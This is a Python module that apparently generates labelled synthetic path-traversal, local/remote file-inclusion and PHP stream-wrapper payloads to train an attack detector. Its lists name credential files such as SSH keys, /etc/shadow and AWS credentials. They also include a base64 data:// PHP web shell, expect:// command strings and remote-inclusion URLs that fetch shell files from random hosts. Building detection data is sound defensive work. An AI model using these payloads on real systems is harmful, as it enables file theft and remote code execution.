"""Path traversal and file inclusion: depth x separator x encoding x target (Linux, Windows,
application files), PHP/Java stream wrappers, null-byte truncation, and remote file inclusion."""

from __future__ import annotations

import random

from apiward.ml.generators.base import Family, Sample, chance, encode_layer, pick, rand_host, rand_ident, rand_ip, weighted

_LINUX = ("etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "etc/issue", "etc/hostname", "etc/os-release", "etc/crontab", "etc/sudoers", "etc/ssh/sshd_config", "root/.ssh/id_rsa", "root/.bash_history", "home/ubuntu/.ssh/authorized_keys", "proc/self/environ", "proc/self/cmdline", "proc/version", "proc/self/fd/0", "proc/1/maps", "var/log/apache2/access.log", "var/log/nginx/error.log", "var/log/auth.log", "usr/local/etc/php.ini", "etc/mysql/my.cnf", "var/run/secrets/kubernetes.io/serviceaccount/token", "etc/apache2/apache2.conf", "etc/nginx/nginx.conf", "var/lib/mlocate/mlocate.db", "etc/resolv.conf", "etc/fstab", "root/.aws/credentials", "opt/tomcat/conf/tomcat-users.xml", "usr/share/tomcat/conf/server.xml", "etc/httpd/conf/httpd.conf")
_WINDOWS = ("windows/win.ini", "windows/system32/drivers/etc/hosts", "boot.ini", "windows/system.ini", "inetpub/wwwroot/web.config", "windows/repair/sam", "windows/system32/config/sam", "windows/panther/unattend.xml", "windows/debug/netsetup.log", "xampp/apache/conf/httpd.conf", "program files/mysql/my.ini", "windows/iis6.log", "users/administrator/ntuser.dat", "windows/system32/inetsrv/config/applicationhost.config")
_APP = ("web-inf/web.xml", "WEB-INF/web.xml", "WEB-INF/classes/application.properties", ".env", ".git/config", ".git/HEAD", "config.php", "wp-config.php", "configuration.php", "config/database.yml", "app/etc/local.xml", ".htaccess", ".htpasswd", "settings.py", "application.yml", "composer.json", "package.json", ".aws/credentials", "config/secrets.yml", "META-INF/MANIFEST.MF", ".svn/entries", ".DS_Store", "server.key", "id_rsa", "docker-compose.yml", ".npmrc", ".bash_history")

_UP = ("../", "..\\", "..//", "....//", "...\\", ".../", "..;/", "..%2f", "..%5c", "%2e%2e/", "%2e%2e%2f", "..%252f", "%252e%252e%252f", "%c0%ae%c0%ae/", "..%c0%af", "..%c1%9c", "%uff0e%uff0e/", "..%u2215", "..\\/", "..././", ".%2e/", "%2e./", "..%00/", "../\\", "\\..\\", "%%32%65%%32%65/", "..%e0%80%af", "．．/", "..0x2f", "0x2e0x2e/")


def _up(rng: random.Random, depth: int) -> str:
    if chance(rng, 0.7):
        unit = pick(rng, _UP[:4]) if chance(rng, 0.6) else pick(rng, _UP)
        return unit * depth
    return "".join(pick(rng, _UP) for _ in range(depth))


def _target(rng: random.Random) -> tuple[str, bool]:
    roll = rng.random()
    if roll < 0.6:
        return pick(rng, _LINUX), False
    if roll < 0.85:
        return pick(rng, _WINDOWS), True
    return pick(rng, _APP), False


def _traversal(rng: random.Random) -> str:
    target, windows = _target(rng)
    if windows and chance(rng, 0.5):
        target = target.replace("/", "\\")
    depth = rng.randint(1, 12)
    prefix = pick(rng, ("", "", "", "/", "./", "images/", "static/", "files/", "/var/www/html/", "uploads/", f"{rand_ident(rng)}/", "c:\\inetpub\\", "templates/", "..", "file="))
    tail = pick(rng, ("", "", "", "", "%00", "%00.jpg", "\x00", "%00.html", ".png", "?", "#", "%23", "/.", "/./././.", "%20", ";.jpg"))
    return f"{prefix}{_up(rng, depth)}{target}{tail}"


def _absolute(rng: random.Random) -> str:
    target, windows = _target(rng)
    if windows:
        drive = pick(rng, ("c:\\", "C:\\", "c:/", "C:/", "\\\\localhost\\c$\\", "file:///c:/", "\\\\?\\C:\\"))
        return drive + (target.replace("/", "\\") if "\\" in drive else target)
    return pick(rng, ("/", "file:///", "file://", "//", "/./", "file:/", "///", "file://localhost/")) + target


def _wrapper(rng: random.Random) -> str:
    target, _ = _target(rng)
    page = pick(rng, ("index.php", "config.php", "index", "../config", "admin.php", "/etc/passwd", "db.php", f"{rand_ident(rng)}.php"))
    forms = (
        f"php://filter/convert.base64-encode/resource={page}",
        f"php://filter/read=string.rot13/resource={page}",
        f"php://filter/{pick(rng, ('convert.iconv.utf-8.utf-16', 'zlib.deflate', 'string.toupper'))}/resource=/{target}",
        "php://input",
        f"php://fd/{rng.randint(0, 9)}",
        f"data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
        f"data:text/plain,<?php {pick(rng, ('phpinfo()', 'system($_GET[c])', 'passthru(id)'))};?>",
        f"expect://{pick(rng, ('id', 'ls', 'whoami', 'uname -a'))}",
        f"zip://uploads/{rand_ident(rng)}.zip%23shell.php",
        f"phar://uploads/{rand_ident(rng)}.jpg/shell.php",
        f"file:///{target}",
        f"jar:file:///tmp/{rand_ident(rng)}.jar!/{rand_ident(rng)}.class",
        f"netdoc:///{target}",
        f"glob://{pick(rng, ('/var/www/*', '/etc/*', '*.php'))}",
        f"compress.zlib:///{target}",
        f"/proc/self/fd/{rng.randint(0, 20)}",
    )
    return pick(rng, forms)


def _rfi(rng: random.Random) -> str:
    host = rand_host(rng) if chance(rng, 0.8) else rand_ip(rng)
    scheme = pick(rng, ("http://", "https://", "ftp://", "http://", "\\\\", "//", "hTTp://"))
    file = pick(rng, ("shell.txt", "c99.txt", "r57.txt", "cmd.txt", "x.php", "shell.php", "backdoor.txt", "id.txt", f"{rand_ident(rng)}.txt", f"{rand_ident(rng)}.php", "evil.gif", "inc.php", "phpinfo.txt"))
    tail = pick(rng, ("?", "??", "%00", "", "?&cmd=id", "%3f", "?x=", "#", ""))
    path = pick(rng, ("", f"{rand_ident(rng)}/", "images/", "tmp/", "up/"))
    return f"{scheme}{host}/{path}{file}{tail}"


_DOT_DIRS = (".git/config", ".git/HEAD", ".git/index", ".svn/entries", ".svn/wc.db", ".hg/hgrc", ".aws/credentials", ".aws/config", ".ssh/id_rsa", ".ssh/authorized_keys", ".ssh/known_hosts", ".docker/config.json", ".kube/config", ".npmrc", ".pypirc", ".netrc", ".env", ".env.local", ".env.production", ".htpasswd", ".bash_history", ".zsh_history", ".mysql_history", ".gnupg/secring.gpg", ".config/gcloud/credentials.db", ".vscode/settings.json", ".idea/workspace.xml", ".DS_Store", ".terraform/terraform.tfstate", "terraform.tfstate", ".git-credentials", ".gitlab-ci.yml", ".travis.yml")
_PROC = ("proc/self/environ", "proc/self/cmdline", "proc/self/maps", "proc/self/status", "proc/self/fd/0", "proc/self/cwd/index.php", "proc/version", "proc/cpuinfo", "proc/meminfo", "proc/mounts", "proc/net/tcp", "proc/net/arp", "proc/sched_debug", "proc/interrupts", "proc/1/environ", "proc/sys/kernel/hostname", "proc/sys/kernel/randomize_va_space", "sys/class/net/eth0/address", "dev/shm", "var/run/docker.sock")


def _sensitive(rng: random.Random) -> str:
    """Sensitive files named directly (no traversal needed when the root is the filesystem)."""
    roll = rng.random()
    if roll < 0.45:
        return pick(rng, ("/", "", "file:///", "./", "~/", "/root/", "/home/" + rand_ident(rng) + "/")) + pick(rng, _DOT_DIRS)
    if roll < 0.85:
        return pick(rng, ("/", "/", "", "file:///")) + pick(rng, _PROC)
    return pick(rng, ("cat ", "type ", "less ", "")) + "/" + pick(rng, _LINUX)


_FAMILIES: tuple[tuple[str, Family, float], ...] = (
    ("relative", _traversal, 5.0),
    ("sensitive", _sensitive, 1.5),
    ("absolute", _absolute, 1.5),
    ("wrapper", _wrapper, 1.5),
    ("rfi", _rfi, 1.0),
)


def generate(rng: random.Random, n: int) -> list[Sample]:
    out: list[Sample] = []
    for _ in range(n):
        name, fn = weighted(rng, _FAMILIES)
        out.append(Sample(encode_layer(rng, fn(rng), (0.8, 0.08, 0.06, 0.06)), "traversal", name))
    return out
